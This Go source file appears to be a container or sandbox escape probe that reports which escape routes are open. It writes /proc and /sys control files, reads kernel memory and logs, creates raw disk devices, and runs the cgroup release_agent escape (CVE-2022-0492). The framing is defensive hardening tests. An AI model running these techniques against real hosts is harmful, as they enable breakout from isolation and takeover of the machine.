//go:build linux

package escape

import (
	"bytes"
	"fmt"
	"io/fs"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// tryProc checks that /proc is the kernel's own, that its levers do not open for
// writing, and that its secrets read as empty.
func tryProc(a *attack) {
	proc, err := os.OpenRoot("/proc")
	if err != nil || !isProc(proc) {
		a.reached("a /proc that is not the kernel's: %v", err)
		return
	}
	defer proc.Close()
	a.rule(proc)
	_ = fs.WalkDir(proc.FS(), "sys", func(name string, d fs.DirEntry, err error) error {
		if err == nil && d.Type().IsRegular() {
			a.refusesWriting(proc, name)
		}
		return nil
	})
	for _, name := range []string{"kernel/uevent_helper", "power/state", "kernel/mm/transparent_hugepage/enabled"} {
		if fd, err := unix.Open("/sys/"+name, unix.O_WRONLY, 0); err == nil {
			unix.Close(fd)
			a.reached("/sys/%s for writing", name)
		}
	}
}

// tryProcAnywhere looks for the kernel's /proc at names that are swapped meanwhile, and tries to rule by that.
func tryProcAnywhere(a *attack) {
	for _, name := range slices.Repeat(a.words, 20) {
		dir, err := os.OpenRoot(name)
		if err != nil {
			continue
		}
		defer dir.Close()
		if isProc(dir) {
			a.rule(dir)
			return
		}
	}
}

func isProc(dir *os.Root) bool {
	f, err := dir.Open(".")
	if err != nil {
		return false
	}
	defer f.Close()
	var st unix.Statfs_t
	return unix.Fstatfs(int(f.Fd()), &st) == nil && st.Type == unix.PROC_SUPER_MAGIC
}

// levers are files of /proc by which a box would rule the machine. Opening changes nothing.
var levers = []string{"sysrq-trigger", "irq/default_smp_affinity", "mtrr", "acpi/wakeup", "bus/pci/00/00.0", "sys/kernel/core_pattern", "sys/kernel/modprobe", "sys/vm/drop_caches"}

// secrets are files of /proc that have to read as empty, or not at all.
var secrets = []string{"kcore", "keys", "kallsyms", "timer_list", "sched_debug", "latency_stats", "kmsg", "interrupts"}

func (a *attack) refusesWriting(proc *os.Root, name string) {
	if f, err := proc.OpenFile(name, os.O_WRONLY, 0); err == nil {
		f.Close()
		a.reached("%s of /proc for writing", name)
	}
}

// rule tries to rule the machine by a /proc.
func (a *attack) rule(proc *os.Root) {
	for _, name := range levers {
		a.refusesWriting(proc, name)
	}
	for _, name := range secrets {
		f, err := proc.OpenFile(name, os.O_RDONLY|unix.O_NONBLOCK, 0)
		if err != nil {
			continue
		}
		if name == "kmsg" { // reading takes from it
			var st, null unix.Stat_t
			_, _ = unix.Fstat(int(f.Fd()), &st), unix.Stat("/dev/null", &null)
			if st.Rdev == 0 || st.Rdev != null.Rdev {
				a.reached("the kernel's log")
			}
		} else if n, _ := f.Read(make([]byte, 64)); n > 0 {
			a.reached("what %s of /proc says", name)
		}
		f.Close()
	}
}

// tryDev checks that the devices are the real ones, and no others.
func tryDev(a *attack) {
	want := map[string]string{"null": "1:3", "zero": "1:5", "full": "1:7", "random": "1:8", "urandom": "1:9", "tty": "5:0"}
	_ = filepath.WalkDir("/dev/", func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || d.Type()&fs.ModeSymlink != 0 {
			return nil
		}
		var st unix.Stat_t
		_ = unix.Lstat(p, &st)
		name, numbers := strings.TrimPrefix(p, "/dev/"), fmt.Sprintf("%d:%d", unix.Major(st.Rdev), unix.Minor(st.Rdev))
		if want[name] != numbers && !strings.HasPrefix(name, "pts/") {
			a.reached("%s, mode %o, device %s", p, st.Mode, numbers)
		}
		delete(want, name)
		return nil
	})
	if len(want) > 0 {
		a.reached("a /dev without %v", want)
	}
	for _, dev := range []int{int(unix.Mkdev(1, 1)), int(unix.Mkdev(254, 0)), int(unix.Mkdev(8, 0))} { // memory, disks
		for _, at := range []string{"/tmp/disk", "/dev/shm/disk", "/mnt/disk"} {
			if unix.Mknod(at, unix.S_IFCHR|0o666, dev) != nil && unix.Mknod(at, unix.S_IFBLK|0o666, dev) != nil {
				continue
			}
			if fd, err := unix.Open(at, unix.O_RDONLY, 0); err == nil {
				unix.Close(fd)
				a.reached("a device made at %s", at)
			}
			_ = os.Remove(at)
		}
	}
}

// tryCgroup looks for a place in the cgroup tree that can be written to (CVE-2023-25809).
func tryCgroup(a *attack) {
	for _, line := range lines("/proc/self/cgroup") {
		if w := strings.SplitN(line, ":", 3); len(w) == 3 && w[2] != "/" {
			a.reached("the host's path of its cgroup: %s", line)
		}
	}
	open := false
	_ = filepath.WalkDir("/sys/fs/cgroup/", func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return nil
		}
		if unix.Access(p, unix.W_OK) == nil {
			open = true
			a.reached("%s, which can be written to", p)
			return fs.SkipAll
		}
		return nil
	})
	if open { // what the kernel says is enough, and nothing is to change
		return
	}
	for _, dir := range append(listedBelow("/sys/fs/cgroup"), "/sys/fs/cgroup") {
		if os.Mkdir(dir+"/escape", 0o755) == nil {
			_ = os.Remove(dir + "/escape")
			a.reached("a cgroup made in %s", dir)
		}
		for _, f := range []string{"release_agent", "memory.max", "memory.limit_in_bytes", "cgroup.procs"} {
			if fd, err := unix.Open(dir+"/"+f, unix.O_WRONLY, 0); err == nil {
				unix.Close(fd)
				a.reached("%s/%s for writing", dir, f)
			}
		}
	}
}

func listedBelow(dir string) []string {
	var all []string
	for _, name := range listed(dir) {
		all = append(all, dir+"/"+name)
	}
	return all
}

// controllers of cgroup v1, and "" for v2.
var controllers = []string{"memory", "cpu", "cpuset", "devices", "freezer", "pids", "blkio", "rdma", "name=systemd", ""}

// tryReleaseAgent mounts every hierarchy, inside new namespaces and without them, and has
// the host run a program when a cgroup becomes empty (CVE-2022-0492).
func tryReleaseAgent(a *attack) {
	if len(a.words) > 1 { // inside new namespaces
		mountAgents(a)
		return
	}
	mountAgents(a)
	cmd := again("release-agent", a.words[0], "inside")
	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS | syscall.CLONE_NEWCGROUP | syscall.CLONE_NEWPID,
		UidMappings: []syscall.SysProcIDMap{{Size: 1, HostID: os.Getuid()}}, GidMappings: []syscall.SysProcIDMap{{Size: 1, HostID: os.Getgid()}}}
	out, _ := cmd.CombinedOutput() // refused where there are no new user namespaces
	for line := range strings.Lines(string(out)) {
		if strings.HasPrefix(line, reachedMark) {
			fmt.Print(line)
		}
	}
}

func mountAgents(a *attack) {
	for i, c := range controllers {
		at := fmt.Sprintf("/tmp/cg%d", i)
		if os.Mkdir(at, 0o755) != nil {
			at = "/mnt"
		}
		kind := "cgroup"
		if c == "" {
			kind = "cgroup2"
		}
		if unix.Mount("none", at, kind, 0, c) != nil {
			continue
		}
		before, _ := os.ReadFile(at + "/release_agent")
		if os.WriteFile(at+"/release_agent", []byte(a.words[0]), 0o644) == nil {
			a.reached("release_agent of %q", c)
			_ = os.WriteFile(at+"/notify_on_release", []byte("1"), 0o644)
			_ = os.Mkdir(at+"/escape", 0o755)
			_ = os.Remove(at + "/escape")
			time.Sleep(100 * time.Millisecond)
			_ = os.WriteFile(at+"/release_agent", before, 0o644) // the host is not to be left like that
		}
		_ = unix.Unmount(at, unix.MNT_DETACH)
	}
}

// tryDoors connects to sockets of the host: how long it waits for each, and pairs of a
// network and an address.
func tryDoors(a *attack) {
	wait, _ := time.ParseDuration(a.words[0])
	for i := 1; i+1 < len(a.words); i += 2 {
		network, address := a.words[i], a.words[i+1]
		c, err := net.DialTimeout(network, address, wait)
		if err != nil {
			continue
		}
		if _, err := c.Write([]byte("from a box")); err == nil && network != "udp" { // udp has no answer to wait for
			a.reached("%s %s", network, address)
		}
		c.Close()
	}
	for _, line := range lines("/proc/net/unix") {
		if bytes.Contains([]byte(line), []byte(" @")) {
			a.reached("a list of abstract sockets: %s", line)
		}
	}
}
